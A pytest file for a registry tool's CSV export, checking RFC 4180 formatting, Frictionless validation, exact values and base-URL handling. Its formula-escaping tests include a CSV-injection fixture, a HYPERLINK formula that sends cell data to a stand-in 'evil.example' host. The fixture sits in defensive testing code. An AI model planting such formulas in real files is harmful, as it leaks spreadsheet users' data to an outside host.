"""`registry export --format csv`: RFC 4180 with a Frictionless descriptor its own validator accepts.

Read as the descriptor says (frictionless), exact values stay text ('0.660' is never 0.66); every
line ends in CRLF; cells a spreadsheet would run as a formula are written as text (issue 28 item 5).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from registry.models import Result
from registry.store.loader import load_registry
from tests.conftest import BUNDLED_RECORDS, DATA, RESULT_11, RESULT_33
from tests.test_export import export

frictionless = pytest.importorskip("frictionless", reason="the CSV descriptor is checked with frictionless: "
                                   "pip install -e '.[test]'")

FIXTURE = DATA / "fixture-registry"


def read_typed(out: Path) -> list[dict]:  # type: ignore[type-arg]
    report = frictionless.validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = frictionless.Package(str(out / "datapackage.json"))
    return [dict(row) for row in package.get_resource("results_flat").read_rows()]


@pytest.mark.parametrize("records", [BUNDLED_RECORDS, FIXTURE], ids=["bundled", "fixture"])
def test_csv_is_rfc_4180_and_its_descriptor_keeps_exact_values(tmp_path: Path, cli, records: Path) -> None:  # type: ignore[no-untyped-def]
    out = export(cli, tmp_path, "csv", "--records", str(records))
    raw = (out / "results_flat.csv").read_bytes()
    assert raw.count(b"\n") == raw.count(b"\r\n") > 1 and raw.endswith(b"\r\n")
    rows = read_typed(out)
    current = {r.id: r for r in load_registry(records)[0].of_kind(Result)}
    assert len(rows) == len(current) == (2 if records == BUNDLED_RECORDS else 161)
    for row in rows:  # as text, exactly as filed: the 16 fixture values pandas turned into floats ('0.660' -> 0.66)
        assert row["numeric_value"] == str(current[row["result_id"]].numeric_value)
        assert row["printed_value"] == current[row["result_id"]].printed_value
        assert isinstance(row["numeric_value_float"], Decimal | float)
    if records == FIXTURE:
        assert "0.660" in {row["numeric_value"] for row in rows}
        roles = {row["value_role"] for row in rows}
        assert roles == {"headline", "aggregate", "member", "derived"}
        fold = next(r for r in rows if r["result_id"].endswith("fold-7-h3k4me3") and "nt-2-5b" in r["result_id"])
        assert fold["value_role"] == "member"
        assert next(r for r in rows if r["result_id"].endswith("t2-h3k4me3-delta"))["numeric_value"] == "-0.018"
    schema = frictionless.Package(str(out / "datapackage.json")).get_resource("results_flat").schema
    header = next(csv.reader(io.StringIO(raw.decode("utf-8"))))
    assert [field.name for field in schema.fields] == header
    assert all(field.description for field in schema.fields), [f.name for f in schema.fields if not f.description]


def test_csv_names_the_reviewer_the_source_and_the_page(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    out = export(cli, tmp_path, "csv", "--base-url", "https://example.org/registry")
    rows = {row["result_id"]: row for row in read_typed(out)}
    assert list(rows) == [RESULT_33, RESULT_11]
    row = rows[RESULT_11]
    assert row["latest_reviewer"] and row["latest_reviewed_at"] and row["latest_review_id"]
    assert row["review_status"] == "source-checked"
    assert row["source_retrieval_url"] == "https://openreview.net/pdf?id=NUleWh1GFx"
    assert row["page_path"] == f"result/{RESULT_11}.html"
    assert row["page_url"] == f"https://example.org/registry/result/{RESULT_11}.html"
    assert row["missing_metadata_count"] >= 1 and "uncertainty: " in row["missing_metadata"]
    # Without a base URL no address is made up: the page's path only.
    plain = {row["result_id"]: row for row in read_typed(export(cli, tmp_path / "plain", "csv"))}
    assert plain[RESULT_11]["page_url"] is None and plain[RESULT_11]["page_path"] == f"result/{RESULT_11}.html"


@pytest.mark.parametrize("url", ["example.org", "ftp://example.org/", "https://example.org/?q=1", "/site"])
def test_a_base_url_that_is_no_site_address_is_refused(tmp_path: Path, cli, url: str) -> None:  # type: ignore[no-untyped-def]
    result = cli("export", "--format", "csv", "--out", tmp_path / "csv", "--base-url", url)
    assert result.exit_code == 1 and "is not the http(s) address of a published site" in " ".join(result.output.split())
    assert not (tmp_path / "csv").exists()


#: Names validation accepts that a spreadsheet would run (a carriage return in a name is refused by validation).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB"]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab"])
def test_formula_cells_are_written_as_text(tmp_path: Path, cli, records_dir: Path, formula: str) -> None:  # type: ignore[no-untyped-def]
    """A name a spreadsheet would run (issue 28 item 5) is prefixed with an apostrophe; numbers stay numbers."""
    import yaml

    family = next((records_dir / "family").glob("*.yaml"))
    data = yaml.safe_load(family.read_text())
    data["name"] = formula
    family.write_text(yaml.safe_dump(data, allow_unicode=True))
    assert cli("validate", "--records", records_dir).exit_code == 0
    out = export(cli, tmp_path, "csv", "--records", str(records_dir))
    with open(out / "results_flat.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["model_family_name"] for row in rows} == {"'" + formula}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not cell.lstrip("+-").replace(".", "")
                       .isdigit() for cell in row.values()), row


def test_numbers_are_not_prefixed() -> None:
    from registry.export.flat_csv import safe_cell

    assert [safe_cell(v) for v in ("-0.018", "+3", "-1e-5", -2, 0.5, None)] == ["-0.018", "+3", "-1e-5", -2, 0.5, ""]
    # One rule with import's warning (registry.textsafe.is_formula): a lone dash, or a number after a tab or a
    # carriage return, is no formula; anything else after those starts is.
    assert [safe_cell(v) for v in ("-", "-x", "=1", "@a", "\t=1", "\r@a", "\t1", "\r1", "−0.018")] == \
        ["-", "'-x", "'=1", "'@a", "'\t=1", "'\r@a", "\t1", "\r1", "−0.018"]
